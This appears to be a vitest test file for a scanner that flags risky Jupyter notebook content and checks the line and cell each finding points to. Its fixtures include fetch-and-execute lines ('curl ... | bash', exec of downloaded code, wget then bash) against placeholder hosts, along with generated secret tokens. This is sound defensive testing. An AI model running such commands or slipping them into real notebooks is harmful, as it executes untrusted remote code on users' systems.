// Notebooks through the whole pipeline: what is found in a cell stands on the line that a reviewer sees in the diff.
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';
import { token } from '../secret/tokens.ts';

type Write = (value: unknown) => string;

const indented: Write = (value) => JSON.stringify(value, null, 1);
const minified: Write = (value) => JSON.stringify(value);
const code = (source: string | readonly string[], outputs: readonly unknown[] = []): object => ({
  cell_type: 'code',
  execution_count: 1,
  metadata: {},
  outputs,
  source,
});
const notebook = (cells: readonly object[]): object => ({
  cells,
  metadata: {},
  nbformat: 4,
  nbformat_minor: 5,
});
const inspect = (text: string) => inspectBytes(Buffer.from(text), 'analysis.ipynb');
const lineOf = (text: string, word: string): number =>
  text.split('\n').findIndex((line) => line.includes(word)) + 1;

describe.each([
  ['as nbformat writes it', indented],
  ['minified', minified],
])('a notebook %s', (_, write) => {
  it('has a download that is run, across cells, on its line and in its cell', async () => {
    const text = write(
      notebook([
        code(['import requests\n', 'body = requests.get("https://example.invalid/x").text\n']),
        code(['print(1)\n', 'exec(body)\n']),
      ]),
    );
    const { findings } = await inspect(text);
    const found = findings.find(({ rule, severity }) => rule.startsWith('CODE-') && severity === 'CRITICAL');
    expect(found?.location).toMatchObject({
      path: 'analysis.ipynb',
      line: lineOf(text, 'exec(body)'),
      cell: 2,
    });
    // Lines of the decoded program would send the reader astray.
    expect(found?.evidence).not.toMatch(/line \d/);
  });

  it('has a command of a cell', async () => {
    const text = write(notebook([code('x = 1'), code(['!curl https://example.invalid/i.sh | bash\n'])]));
    const found = (await inspect(text)).findings.find(({ rule }) => rule === 'CODE-PIPE-SHELL');
    expect(found?.location).toMatchObject({ line: lineOf(text, '!curl'), cell: 2 });
  });

  it('has a secret in an output', async () => {
    const output = {
      output_type: 'stream',
      name: 'stdout',
      text: ['logged in\n', `key ${token('huggingface-user')}\n`],
    };
    const text = write(notebook([code('login()', [output])]));
    const found = (await inspect(text)).findings.find(({ rule }) => rule === 'SECRET-AI-PROVIDER');
    expect(found?.location).toMatchObject({ line: lineOf(text, 'key hf_'), cell: 1 });
  });

  it('has a secret in the metadata of an output', async () => {
    const metadata = { 'application/vnd.tool+json': { session: token('huggingface-user') } };
    const output = { output_type: 'display_data', data: { 'text/plain': 'shown' }, metadata };
    const text = write(notebook([code('x = 1'), code('show()', [output])]));
    const { findings } = await inspect(text);
    expect(findings).toMatchObject([
      { location: { line: lineOf(text, 'session'), cell: 2 }, surface: 'secret' },
    ]);
  });

  it('has what a cell installs', async () => {
    const text = write(
      notebook([code('%pip install --index-url http://pypi.example.invalid/simple thing\n')]),
    );
    const { findings } = await inspect(text);
    expect(
      findings.filter(({ rule }) => rule.startsWith('PACKAGE-')).map(({ location }) => location.line),
    ).toContain(lineOf(text, 'pip install'));
  });
});

describe('what a notebook is used for', () => {
  const saidOf = async (source: string): Promise<string[]> =>
    (await inspect(indented(notebook([code(source)])))).findings.map(
      ({ rule, severity }) => `${severity} ${rule}`,
    );

  it.each([
    [
      'a query',
      '%%bigquery --project x\nSELECT * FROM t WHERE `a` = "b";\nSELECT 1 AS `é`;\nCREATE MODEL m;',
    ],
    ['a requirement that pip refuses', '%pip install thing=='],
    ['a shell of Datalab', '%bash\ngcloud config set project $PROJECT\nexport A=(b c); echo ${A[0]}\n'],
  ])('is quiet with %s', async (_, source) => {
    expect(await saidOf(source)).toEqual([]);
  });

  it('is quiet with two ends that hands left behind when they merged it', async () => {
    const text = indented(notebook([code('x = 1')]));
    const twice = text.replace(
      /\n\}\s*$/,
      ', "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4}',
    );
    expect((await inspect(twice)).findings).toEqual([]);
    const other = text.replace(/\n\}\s*$/, ', "metadata": {"kernelspec": {"name": "bash"}}}');
    expect((await inspect(other)).findings.map(({ rule }) => rule)).toContain('NOTEBOOK-DUPLICATE-KEY');
  });

  const RAW = 'https://raw.githubusercontent.com/someone/project/main';
  it.each([
    ['a script', `!wget ${RAW}/setup.sh\n!bash setup.sh`, 'MEDIUM CODE-PIPE-SHELL'],
    [
      'a module',
      `import requests\nopen("chains.py", "w").write(requests.get("${RAW}/chains.py").text)\nimport chains`,
      'MEDIUM CODE-DOWNLOAD-EXECUTE',
    ],
    ['a script of anybody', '!wget https://example.invalid/setup.sh\n!bash setup.sh', 'HIGH CODE-PIPE-SHELL'],
    [
      'a module of anybody',
      'import requests\nopen("chains.py", "w").write(requests.get("https://example.invalid/chains.py").text)\nimport chains',
      'HIGH CODE-DOWNLOAD-EXECUTE',
    ],
  ])('is told of %s that it fetches', async (_, source, said) => {
    expect(await saidOf(source)).toEqual([said]);
  });
});

describe('a command that Python knows more of than a shell', () => {
  const rulesOf = async (source: string): Promise<string[]> =>
    (await inspect(indented(notebook([code(source)])))).findings
      .filter(({ severity }) => severity === 'HIGH' || severity === 'CRITICAL')
      .map(({ rule }) => rule);

  it.each([
    ['x = !curl -s https://x.example.invalid/p.py\nexec("\\n".join(x))', 'CODE-DOWNLOAD-EXECUTE'],
    ['x = !curl -s https://x.example.invalid/p.py\nexec(x.n)', 'CODE-DOWNLOAD-EXECUTE'],
    ['cmd = "curl -s https://x.example.invalid/i.sh | bash"\n!{cmd}', 'CODE-PIPE-SHELL'],
    ['cmd = "curl -s https://x.example.invalid/i.sh | bash"\n!bash -c "$cmd"', 'CODE-PIPE-SHELL'],
    ['x = !curl -s https://x.example.invalid/i.sh | bash', 'CODE-PIPE-SHELL'],
  ])('is blocked: %s', async (source, rule) => {
    expect(await rulesOf(source)).toEqual([rule]);
  });

  it.each([
    'files = !ls *.csv\nfor f in files: print(f)',
    'n = "train.py"\n!python {n}',
    '!{sys.executable} -m pip list',
  ])('is quiet: %s', async (source) => {
    expect(await rulesOf(source)).toEqual([]);
  });
});

describe('an ordinary notebook', () => {
  it('is quiet, and is one artifact', async () => {
    const cells = [
      { cell_type: 'markdown', metadata: {}, source: ['# Training\n'] },
      code(['!pip install -q "transformers>=4.40" datasets\n', '%matplotlib inline\n', 'import os\n']),
      code(
        ['for epoch in range(3):\n', '    print(epoch)\n'],
        [{ output_type: 'stream', name: 'stdout', text: ['0\n'] }],
      ),
    ];
    const { findings, coverage } = await inspect(indented(notebook(cells)));
    expect(findings.filter(({ severity }) => severity !== 'INFO')).toEqual([]);
    expect(coverage.map(({ format, status }) => [format, status])).toEqual([['notebook', 'inspected']]);
  });

  it('may talk to a server of its own with its environment', async () => {
    const source = [
      'import os, requests\n',
      'env = dict(os.environ)\n',
      'requests.post("http://localhost:8000/v1", json={})\n',
    ];
    const { findings } = await inspect(indented(notebook([code(source)])));
    expect(findings.filter(({ severity }) => severity !== 'INFO' && severity !== 'LOW')).toEqual([]);
  });
});

describe('what is no notebook', () => {
  it.each(['{"cells": [', '[]', 'not JSON', '{"cells": [], "nbformat": 99}'])(
    '%j needs review',
    async (text) => {
      const { findings, coverage } = await inspect(text);
      expect(findings).toMatchObject([{ rule: 'SCAN-INCOMPLETE', severity: 'MEDIUM' }]);
      expect(coverage).toMatchObject([{ format: 'notebook', status: 'partial' }]);
    },
  );

  const harm = "exec(__import__('urllib.request').request.urlopen('https://example.invalid/x').read())\n";
  const spoiled = (spoil: (text: string) => string): string =>
    spoil(
      indented(notebook([code(['x = 1\n']), code([harm]), code([`t = "${token('huggingface-user')}"\n`])])),
    );

  it.each<[string, (text: string) => string, RegExp]>([
    ['a comma too many', (text) => text.replace(/\}\n \]/, '},\n ]'), /^ \]/],
    ['a merge before the cells', (text) => text.replace('[\n', '[\n<<<<<<< HEAD\n'), /<<<</],
    ['a merge in a source', (text) => text.replace('    "exec', '<<<<<<< HEAD\n    "exec'), /<<<</],
    [
      'a value that is missing',
      (text) => text.replace('"execution_count": 1', '"execution_count": '),
      /"execution_count": ,/,
    ],
    ['an end that is missing', (text) => text.slice(0, text.lastIndexOf(']')), /^ "nbformat_minor"/],
  ])('with %s is read around it', async (_, spoil, mistake) => {
    const text = spoiled(spoil);
    const { findings } = await inspect(text);
    const lines = text.split('\n');
    const lineWith = (pattern: RegExp): number => lines.findIndex((line) => pattern.test(line)) + 1;
    const lineOfRule = (start: string): number | undefined =>
      findings.find(({ rule }) => rule.startsWith(start))?.location.line;
    expect(lineOfRule('CODE-DOWNLOAD')).toBe(lineWith(/exec\(/));
    expect(lineOfRule('SECRET-AI')).toBe(lineWith(/t = /));
    expect(findings.filter(({ rule }) => rule.startsWith('SECRET-'))).toHaveLength(1);
    const end = mistake.source.includes('nbformat') ? lines.length : lineWith(mistake);
    expect(lineOfRule('SCAN-INCOMPLETE')).toBe(end);
  });

  it('has cells that nobody reads', async () => {
    const { findings } = await inspect(indented(notebook([code('%%perl\nsystem("ls")')])));
    expect(findings).toMatchObject([
      { rule: 'SCAN-INCOMPLETE', evidence: expect.stringContaining('perl in cell 1') },
    ]);
  });

  it('is not read when it is larger than any', async () => {
    const { findings } = await inspect(`{"cells": [${' '.repeat(64 * 2 ** 20)}]}`);
    expect(findings).toMatchObject([{ rule: 'SCAN-INCOMPLETE' }]);
  });
});
